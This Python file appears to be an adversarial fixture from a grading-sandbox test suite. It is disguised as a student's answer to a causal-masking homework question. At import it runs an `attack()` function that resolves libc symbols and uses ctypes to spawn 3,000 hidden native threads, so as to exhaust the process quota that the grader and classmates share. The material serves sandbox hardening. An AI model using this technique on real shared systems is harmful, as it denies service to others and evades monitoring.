# attack: starts 3,000 threads through libc's pthread_create called by a ctypes function pointer from an address (64 KiB stacks, each running libc's pause: no Python thread, so the Guard's count of Python threads never sees them, unlike kernel_thread_bomb's), which under an ordinary user would eat the process quota the grader and every classmate share; imports and answers right only when all of them started
# expect: module=q01_causal_mask status=error match=Errno 11\] pthread_create refused after 6\d threads
# path: sandbox user
# reproduced (refused already): under an ordinary user the 65th failed with EAGAIN: the child's process limit is its question's own (66, counted in the zygote's user namespace), not the user's
"""Question 1, written to take the instructor's process quota with threads Python does not know of."""
import ctypes
import struct

import torch
from torch import Tensor

def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """pthread_create(&thread, {stack 64 KiB}, pause, NULL) until 3,000 run or the kernel refuses one."""
    create = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p)(
        libc_symbol(b"pthread_create")
    )
    attr_init = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(libc_symbol(b"pthread_attr_init"))
    stack_size = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)(
        libc_symbol(b"pthread_attr_setstacksize")
    )
    attr, thread = ctypes.create_string_buffer(128), ctypes.c_ulong()
    attr_init(attr)
    stack_size(attr, 65536)
    pause = libc_symbol(b"pause")
    for started in range(3000):
        error = create(ctypes.addressof(thread), attr, pause, None)  # pthread_create returns the error, sets no errno
        if error:
            raise OSError(error, f"pthread_create refused after {started} threads")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
